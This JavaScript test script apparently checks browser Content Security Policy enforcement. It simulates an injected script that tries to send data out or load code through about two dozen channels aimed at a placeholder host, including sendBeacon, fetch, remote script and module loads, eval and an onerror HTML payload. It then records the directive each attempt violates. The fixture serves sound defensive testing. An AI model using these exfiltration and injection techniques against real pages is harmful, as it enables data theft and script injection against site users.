// A script that got into the page and tries to send something out, or to run something new.
// It leaves what the browser invoked against each attempt in the page's root element.
(async () => {
  const elsewhere = 'ELSEWHERE';
  // How long a browser may take to invoke a rule, in milliseconds.
  const TIME = 3000;
  const pause = (time) => new Promise((done) => { setTimeout(done, time); });
  const add = (name, given) => document.body.appendChild(Object.assign(document.createElement(name), given));
  const attempts = {
    'fetch': () => fetch(`${elsewhere}fetch`).catch(() => {}),
    'XMLHttpRequest': () => { const ask = new XMLHttpRequest(); ask.open('GET', `${elsewhere}xhr`); ask.send(); },
    'beacon': () => navigator.sendBeacon(`${elsewhere}beacon`, 'Fatima'),
    'WebSocket': () => new WebSocket(`${elsewhere.replace('http', 'ws')}socket`),
    'EventSource': () => new EventSource(`${elsewhere}events`),
    'image': () => { new Image().src = `${elsewhere}image`; },
    'background': () => { document.body.style.backgroundImage = `url(${elsewhere}background)`; },
    'media': () => new Audio(`${elsewhere}media`).load(),
    'font': () => new FontFace('f', `url(${elsewhere}font)`).load().catch(() => {}),
    'frame': () => add('iframe', { src: `${elsewhere}frame` }),
    'object': () => add('object', { data: `${elsewhere}object` }),
    'embed': () => add('embed', { src: `${elsewhere}embed` }),
    'preload': () => add('link', { rel: 'preload', as: 'image', href: `${elsewhere}preload` }),
    'style sheet': () => add('link', { rel: 'stylesheet', href: `${elsewhere}style` }),
    'style in the page': () => add('style', { textContent: 'body { color: red }' }),
    'script': () => add('script', { src: `${elsewhere}script` }),
    'script in the page': () => add('script', { textContent: 'document.title = "ran"' }),
    'module': () => import(`${elsewhere}module`).catch(() => {}),
    'worker': () => new Worker(`${elsewhere}worker`),
    'handler': () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'document.title = "ran"');
      button.click();
    },
    'HTML': () => { add('div').innerHTML = '<img src="data:," onerror="document.title = \'ran\'">'; },
    'eval': () => (0, eval)('document.title = "ran"'),
    'timer': () => setTimeout('document.title = "ran"'),
    'form': () => add('form', { action: `${elsewhere}form`, method: 'post', target: 'other' }).submit(),
    'new window': () => self.open(`${elsewhere}window`),
    // Last, since Firefox invokes the rule only when it has nothing else to do.
    'prefetch': () => add('link', { rel: 'prefetch', href: `${elsewhere}prefetch` }),
  };
  // What this browser refuses without telling the page.
  const quiet = QUIET;
  while (!document.querySelector('h1')) await pause(10);
  const found = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    const invoked = [];
    const note = (event) => invoked.push(event.effectiveDirective);
    document.addEventListener('securitypolicyviolation', note);
    const start = performance.now();
    // Some attempts throw as well: that they are refused is what counts.
    try { attempt(); } catch (refused) {}
    while (!quiet.includes(name) && !invoked.length && performance.now() - start < TIME) await pause(10);
    document.removeEventListener('securitypolicyviolation', note);
    found[name] = invoked[0] ?? '';
  }
  await pause(300);
  document.documentElement.dataset.found = JSON.stringify(found);
})();
